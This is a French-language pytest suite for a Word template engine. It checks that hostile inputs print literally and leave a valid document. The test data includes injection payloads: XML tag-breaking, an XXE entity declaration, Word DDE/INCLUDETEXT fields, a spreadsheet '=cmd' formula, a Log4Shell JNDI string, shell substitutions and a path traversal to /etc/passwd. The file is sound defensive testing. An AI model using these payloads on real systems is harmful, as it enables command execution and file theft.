"""Une donnée, si étrange soit-elle, s'imprime telle quelle et n'abîme jamais le document."""

from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from docx import Document
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from documents.moteur.environnement import Environnement
from documents.moteur.erreurs import ErreurGabarit
from documents.moteur.gabarit import composer
from documents.moteur.validite import fautes_word, paragraphes
from tests.documents.fabriques_word import un_gabarit
from tests.documents.validateur import erreurs_open_xml, sans_validateur

HOSTILES = {
    "esperluette": ("CAF & CCAS", None),
    "chevrons": ("âge < 25 ans et > 16", None),
    "element": ("<w:p>injecté</w:p>", None),
    "fermeture": ("</w:t></w:r></w:p><w:p><w:r><w:t>PIRATE", None),
    "entite": ("&amp; &#x41; &xxe;", None),
    "cdata": ("]]> <![CDATA[x]]>", None),
    "tabulation verticale": ("ligne 1\x0bligne 2", "ligne 1\nligne 2"),
    "nul": ("a\x00b", "ab"),
    "controle": ("a\x01\x1fb", "ab"),
    "saut de page": ("a\x0cb", "ab"),
    "sonnerie": ("a\x07b", "ab"),
    "retours": ("l1\nl2\r\nl3\rl4", "l1\nl2\nl3\nl4"),
    "tabulation": ("a\tb", None),
    "emoji": ("👩‍👩‍👧‍👦 🇫🇷", None),
    "droite a gauche": ("مرحبا \u202eabc\u202c", None),
    "demi-codet": ("a\ud800b", "ab"),
    "hors XML": ("a\uffff\ufffeb", "ab"),
    "espaces": ("  deux  espaces  ", None),
    "cent mille": ("mot " * 25_000, None),
    "guillemets": ('"l\'été" «\u00a0ok\u00a0»', None),
    "marque interne": ("\ufdd00\ufdd1", None),
    "vide": ("", None),
    "point-virgule": ("a;b&lt;c", None),
    "accents décomposés": ("e\u0301te\u0301", None),
    "empilement d'accents": ("z" + "\u0335\u0321\u0489" * 200, None),
    "espaces sans largeur": ("a\u200b\u2060\ufeffb", None),
    "séparateurs de lignes d'Unicode": ("a\u2028b\u2029c\x85d", None),
    "contrôles du second jeu": ("a\x80\x9fb", None),
    "non-caractères d'un autre plan": ("a\U0001fffe\U0010ffffb", None),
    "usage privé": ("\ue000\uf8ff\U000f0000", None),
    "mot sans fin": ("x" * 100_000, None),
    "déclaration XML": ("<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]>&b;", None),
    "champ de Word": ('{ INCLUDETEXT "http://pirate.invalid" } DDEAUTO', None),
    "formule de tableur": ("=cmd|' /C calc'!A0", None),
    "mise en forme": ("%s %n {0} ${jndi:ldap://x} $(id) `id`", None),
    "antislashs": ("\\1 \\g<0> \\n \\u0041", None),
    "repère du sommaire": ('<sommaire champ="TOC" titres="" entrees=""/>', None),
    "chemin": ("../../etc/passwd\\..\\win.ini", None),
}
HOSTILES_NON_TEXTUELLES = {
    "pas un nombre": (float("nan"), "ce nombre n'en est pas un"),
    "infini": (float("-inf"), "ce nombre n'en est pas un"),
    "décimal sans valeur": (Decimal("NaN"), "ce nombre n'en est pas un"),
    "entier démesuré": (10**5_000, "cette balise ne convient pas à la donnée reçue"),
    "octets": (b"abc", "cette donnée ne s'imprime pas telle quelle"),
    "liste": (["a"], "cette donnée ne s'imprime pas telle quelle"),
    "objet": (object(), "cette donnée ne s'imprime pas telle quelle"),
    "fonction": (print, "cette donnée ne s'imprime pas telle quelle"),
}


@pytest.fixture(scope="module")
def gabarit(tmp_path_factory: pytest.TempPathFactory) -> Path:
    dossier = tmp_path_factory.mktemp("valeurs")
    return un_gabarit(dossier, "avant {{ x }} après", tableau=[["{{ x }}", "fixe"]])


@pytest.mark.parametrize(("valeur", "attendu"), HOSTILES.values(), ids=HOSTILES.keys())
def test_une_valeur_hostile_s_imprime_sans_abimer_le_document(
    valeur: str, attendu: str | None, gabarit: Path
) -> None:
    compose = composer(gabarit, {"x": valeur})

    texte = valeur if attendu is None else attendu
    assert paragraphes(compose.octets) == [f"avant {texte} après", texte, "fixe"]
    assert fautes_word(compose.octets) == ()


@pytest.mark.parametrize(
    ("valeur", "attendu"), HOSTILES_NON_TEXTUELLES.values(), ids=HOSTILES_NON_TEXTUELLES.keys()
)
def test_une_valeur_qui_ne_s_imprime_pas_est_refusee_avec_sa_balise(
    valeur: object, attendu: str, gabarit: Path
) -> None:
    with pytest.raises(ErreurGabarit) as refus:
        composer(gabarit, {"x": valeur})

    assert refus.value.fautes[0].message.startswith(attendu)
    assert refus.value.fautes[0].balise == "{{ x }}"


@sans_validateur
def test_toutes_les_valeurs_hostiles_ensemble_font_un_document_conforme(tmp_path: Path) -> None:
    gabarit = un_gabarit(tmp_path, "{%p for x in valeurs %}", "{{ x }}", "{%p endfor %}")

    compose = composer(gabarit, {"valeurs": [valeur for valeur, _ in HOSTILES.values()]})

    assert erreurs_open_xml(compose.octets) == []


def test_une_balise_dans_une_donnee_n_est_pas_executee_mais_signalee(gabarit: Path) -> None:
    compose = composer(gabarit, {"x": "{{ ''.__class__ }} {% if %}"})

    assert paragraphes(compose.octets)[1] == "{{ ''.__class__ }} {% if %}"
    assert fautes_word(compose.octets)[0].startswith("word/document.xml : texte non résolu « ")


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(valeur=st.text(alphabet=st.characters(), max_size=40))
def test_tout_texte_donne_un_document_valide(valeur: str, gabarit: Path) -> None:
    compose = composer(gabarit, {"x": valeur})

    assert len(paragraphes(compose.octets)) == 3
    Document(BytesIO(compose.octets))


@pytest.mark.parametrize(
    ("valeur", "attendu"),
    [
        (None, ""),
        (True, "oui"),
        (False, "non"),
        (0, "0"),
        (1460722, "1460722"),
        (date(2024, 6, 12), "2024-06-12"),
    ],
)
def test_une_valeur_qui_n_est_pas_un_texte_s_imprime_en_francais(
    valeur: object, attendu: str, gabarit: Path
) -> None:
    assert paragraphes(composer(gabarit, {"x": valeur}).octets)[1] == attendu


def test_un_texte_assemble_par_un_filtre_est_assaini_lui_aussi(tmp_path: Path) -> None:
    gabarit = un_gabarit(tmp_path, "{{ noms|join(', ') }}", "{{ x|en_gras }}")
    environnement = Environnement({"en_gras": lambda texte: f"<b>{texte}</b>"})

    lus = paragraphes(composer(gabarit, {"noms": ["a\x07&", "<b>\nc"], "x": "&"}, environnement).octets)

    assert lus == ["a&, <b>\nc", "<b>&</b>"]


def test_une_cle_de_dictionnaire_passe_avant_une_methode(tmp_path: Path) -> None:
    gabarit = un_gabarit(tmp_path, "{{ f.items }} {{ f.count }} {{ f['values'] }}")

    lus = paragraphes(composer(gabarit, {"f": {"items": "x", "count": 3, "values": "v"}}).octets)

    assert lus == ["x 3 v"]


def proprietes(octets: bytes) -> Any:
    return Document(BytesIO(octets)).core_properties


@pytest.mark.parametrize(
    ("valeur", "attendu"),
    [
        (date(2024, 6, 12), datetime(2024, 6, 12, tzinfo=UTC)),
        (datetime(2024, 6, 12, 9, 30, tzinfo=UTC), datetime(2024, 6, 12, 9, 30, tzinfo=UTC)),
        ("2024-06-12T11:30:00+02:00", datetime(2024, 6, 12, 9, 30, tzinfo=UTC)),
    ],
)
def test_les_proprietes_prennent_titre_et_date_du_contexte(
    valeur: object, attendu: datetime, tmp_path: Path
) -> None:
    def titrer(document: Any) -> None:
        document.core_properties.title = "{{ titre }}"
        document.core_properties.subject = "Contrat de {{ titre }}"

    gabarit = un_gabarit(tmp_path, "texte", retoucher=titrer)

    lues = proprietes(composer(gabarit, {"titre": "A & B\nC", "date_du_document": valeur}).octets)

    assert (lues.title, lues.subject) == ("A & B C", "Contrat de A & B C")
    assert (lues.created, lues.modified) == (attendu, attendu)


def test_sans_date_dans_le_contexte_le_document_garde_celle_du_gabarit(tmp_path: Path) -> None:
    gabarit = un_gabarit(tmp_path, "texte")

    octets = composer(gabarit, {}).octets

    assert proprietes(octets).modified == Document(str(gabarit)).core_properties.modified


def test_une_date_illisible_est_refusee(tmp_path: Path) -> None:
    gabarit = un_gabarit(tmp_path, "texte")

    with pytest.raises(ValueError, match="12 juin 2024"):
        composer(gabarit, {"date_du_document": "12 juin 2024"})
